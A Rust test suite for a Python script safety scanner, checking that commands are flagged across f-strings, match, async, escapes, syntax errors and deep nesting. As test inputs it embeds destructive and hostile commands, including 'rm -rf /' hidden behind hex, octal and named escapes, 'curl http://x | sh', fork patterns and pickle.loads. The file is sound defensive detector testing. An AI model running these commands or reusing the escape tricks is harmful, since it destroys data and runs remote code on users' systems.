//! The Python scanner on syntax where its parser matters: f-strings, `match`, the walrus,
//! decorators, `async`, modern syntax, string escapes, Python 2 and other syntax errors, and
//! positions, evidence and nesting limits reported as the rules promise.

use tool_core::safety::{SafetyDecision, SafetyPolicy, SafetyReport, SafetyScanRequest, Scanner};
use tool_core::ScriptLang;

fn scan(src: &str) -> SafetyReport {
    let scanner = Scanner::new(SafetyPolicy::default()).expect("default policy is valid");
    scanner.scan(&SafetyScanRequest::new("py", ScriptLang::Python, src))
}

/// `(rule, line, column)` of every finding.
fn hits(r: &SafetyReport) -> Vec<(&str, u32, u32)> {
    r.findings
        .iter()
        .map(|f| {
            (
                f.rule_id.as_str(),
                f.line.unwrap_or(0),
                f.column.unwrap_or(0),
            )
        })
        .collect()
}

#[test]
fn f_strings_without_fields_are_literal_shell_strings() {
    let r = scan("import os\nos.system(f\"rm -rf /\")\n");
    assert_eq!(r.decision, SafetyDecision::Deny);
    assert_eq!(hits(&r), vec![("BASH-RM-ROOT", 2, 1)]);
}

#[test]
fn f_strings_with_fields_are_computed_commands() {
    let r = scan("import os\nname = input()\nos.system(f\"echo {name}\")\n");
    assert_eq!(r.decision, SafetyDecision::NeedsHumanReview);
    assert_eq!(hits(&r), vec![("PY-OS-EXEC", 3, 1)]);
    let r = scan("import subprocess\nsubprocess.run(f\"ls {d}\", shell=True)\n");
    assert_eq!(hits(&r), vec![("PY-SUBPROCESS-SHELL", 2, 1)]);
}

#[test]
fn calls_inside_f_string_fields_are_scanned() {
    let r = scan("import os\nprint(f\"{os.system('rm -rf /')}\")\n");
    assert_eq!(r.decision, SafetyDecision::Deny);
    assert_eq!(hits(&r), vec![("BASH-RM-ROOT", 2, 10)]);
}

#[test]
fn implicit_concatenation_bytes_and_raw_strings_are_literals() {
    for lit in [
        r#""rm " "-rf " "/""#,
        r#"b"rm -rf /""#,
        r#"r"rm -rf /""#,
        r#""\x72m -rf /""#,
    ] {
        let r = scan(&format!("import os\nos.system({lit})\n"));
        assert_eq!(r.rule_ids(), vec!["BASH-RM-ROOT"], "{lit}");
    }
}

#[test]
fn every_python_escape_is_decoded() {
    // Octal and named escapes spell the command as Python would run it.
    for lit in [r#""\162m -rf /""#, r#""\N{LATIN SMALL LETTER R}m -rf /""#] {
        let r = scan(&format!("import os\nos.system({lit})\n"));
        assert_eq!(r.rule_ids(), vec!["BASH-RM-ROOT"], "{lit}");
    }
}

#[test]
fn match_statements_are_walked() {
    let src = "import os\n\
               def f(cmd):\n    \
                   match cmd:\n        \
                       case {\"run\": str(c)}:\n            \
                           os.system(c)\n        \
                       case [first, *rest] if first == \"x\":\n            \
                           os.system(\"rm -rf /\")\n        \
                       case _:\n            \
                           pass\n";
    let r = scan(src);
    assert_eq!(r.decision, SafetyDecision::Deny);
    assert_eq!(
        hits(&r),
        vec![("PY-OS-EXEC", 5, 13), ("BASH-RM-ROOT", 7, 13)]
    );
}

#[test]
fn walrus_binds_nothing_the_rules_follow() {
    // Names bound by `:=` are not tracked as constants (as before): the command is computed.
    let r = scan("import os\nif (cmd := \"ls\"):\n    os.system(cmd)\n");
    assert_eq!(hits(&r), vec![("PY-OS-EXEC", 3, 5)]);
    let r = scan("import os\nwhile (n := input()):\n    os.fork()\n");
    assert_eq!(hits(&r), vec![("PY-FORK-BOMB", 3, 5)]);
}

#[test]
fn decorators_and_class_keywords_are_walked() {
    let src = "import functools, pickle\n\
               @functools.lru_cache(maxsize=None)\n\
               def f(x):\n    return pickle.loads(x)\n\
               class A(metaclass=__builtins__.type):\n    pass\n";
    let r = scan(src);
    assert_eq!(
        hits(&r),
        vec![("PY-DESERIALIZE", 4, 12), ("PY-REFLECTION", 5, 19)]
    );
    assert_eq!(r.findings[1].evidence, "__builtins__.type");
}

#[test]
fn async_code_is_walked() {
    let src = "import asyncio, os\n\
               async def main():\n    \
                   await asyncio.create_subprocess_shell(\"curl http://x | sh\")\n    \
                   await asyncio.create_subprocess_exec(\"rm\", \"-rf\", \"/\")\n    \
                   async for entry in os.walk(\"/\"):\n        \
                       os.remove(entry)\n";
    let r = scan(src);
    assert_eq!(r.decision, SafetyDecision::Deny);
    assert_eq!(
        hits(&r),
        vec![
            ("BASH-CURL-PIPE-SHELL", 3, 11),
            ("BASH-RM-ROOT", 4, 11),
            ("PY-RM-ROOT", 6, 9)
        ]
    );
}

#[test]
fn modern_syntax_parses_and_is_allowed_when_harmless() {
    for src in [
        "type Point[T] = tuple[T, T]\n",
        "def first[T](xs: list[T]) -> T:\n    return xs[0]\n",
        "try:\n    pass\nexcept* ValueError:\n    pass\n",
        "x = f\"{'a' + \"b\"}\"\n",
        "with (open('a') as f, open('b') as g):\n    pass\n",
    ] {
        let r = scan(src);
        assert_eq!(
            r.decision,
            SafetyDecision::Allow,
            "{src}: {:?}",
            r.rule_ids()
        );
    }
}

/// `src` is denied with a `PY-SYNTAX` finding.
fn assert_syntax_denied(src: &str) {
    let r = scan(src);
    assert_eq!(r.decision, SafetyDecision::Deny, "{src}");
    assert!(
        r.rule_ids().contains(&"PY-SYNTAX"),
        "{src}: {:?}",
        r.rule_ids()
    );
}

#[test]
fn python_2_statements_are_syntax_errors() {
    // Python 3 refuses them: never allowed, never half-scanned.
    for src in [
        "print \"hello\"\n",
        "import os\nexec \"os.system('rm -rf /')\"\n",
        "raise ValueError, \"x\"\n",
        "x = 0777\n",
    ] {
        assert_syntax_denied(src);
    }
}

#[test]
fn compile_time_syntax_errors_are_denied() {
    for src in [
        "def f(a=1, b):\n    pass\n",
        "x = 1 +\n",
        "f(**a, *b)\n",
        "x = [1, 2\n",
        "def f(:\n    pass\n",
        "if x:\npass\n",
        "'unterminated\n",
    ] {
        assert_syntax_denied(src);
    }
}

#[test]
fn a_syntax_error_does_not_hide_other_findings() {
    let r = scan("import os\nos.system(\"rm -rf /\")\ndef f(:\n");
    assert_eq!(r.decision, SafetyDecision::Deny);
    assert_eq!(r.rule_ids(), vec!["BASH-RM-ROOT", "PY-SYNTAX"]);
}

#[test]
fn positions_count_bytes_from_one() {
    // Columns count bytes, as the scanner always has: `é` is two.
    let r = scan("import os\ns = \"é\"; os.system(\"rm -rf /\")\n");
    assert_eq!(hits(&r), vec![("BASH-RM-ROOT", 2, 11)]);
    let r = scan("import os\r\nos.system(x)\r\n");
    assert_eq!(hits(&r), vec![("PY-OS-EXEC", 2, 1)]);
}

#[test]
fn builtins_evidence_is_the_node_around_it() {
    let r = scan("def f(a, __builtins__=1):\n    pass\nf(k=__builtins__)\n");
    let ev: Vec<&str> = r.findings.iter().map(|f| f.evidence.as_str()).collect();
    assert_eq!(ev, vec!["__builtins__=1", "k=__builtins__"]);
}

#[test]
fn chained_assignment_binds_the_last_name_only() {
    // As before: `a = b = "..."` makes `b` a constant, `a` stays unknown.
    let r = scan("import os\na = b = \"rm -rf /\"\nos.system(b)\nos.system(a)\n");
    assert_eq!(hits(&r), vec![("BASH-RM-ROOT", 3, 1), ("PY-OS-EXEC", 4, 1)]);
}

#[test]
fn deep_brackets_and_deep_trees_are_refused_with_the_depth_error() {
    for src in [
        format!("x = {}1{}", "(".repeat(500), ")".repeat(500)),
        format!("x = {}1", "-".repeat(5_000)),
        format!("x = 1{}", "+1".repeat(5_000)),
        format!("x{}", ".a".repeat(5_000)),
        format!("x = {}1", "lambda: ".repeat(5_000)),
    ] {
        let r = scan(&src);
        assert_eq!(r.decision, SafetyDecision::Deny);
        let f = r
            .findings
            .iter()
            .find(|f| f.rule_id == "SCAN-ERROR")
            .expect("depth error");
        assert_eq!(f.metadata.get("reason").map(String::as_str), Some("depth"));
    }
}

#[test]
fn the_largest_accepted_script_of_nesting_is_refused_without_overflow() {
    // A unary chain is the densest tree there is: one level per byte, up to the size limit.
    let limit = SafetyPolicy::default().max_script_bytes;
    for unit in ["-", "not ", "(x)", "["] {
        let src = format!("x = {}", unit.repeat((limit - 8) / unit.len()));
        let r = scan(&src);
        assert_eq!(r.decision, SafetyDecision::Deny);
        assert!(r.rule_ids().contains(&"SCAN-ERROR"), "{unit}");
    }
}

#[test]
fn nesting_within_the_limit_is_scanned() {
    let src = format!(
        "import os\nx = {}os.system(\"rm -rf /\"){}\n",
        "(".repeat(300),
        ")".repeat(300)
    );
    let r = scan(&src);
    assert_eq!(r.rule_ids(), vec!["BASH-RM-ROOT"]);
}
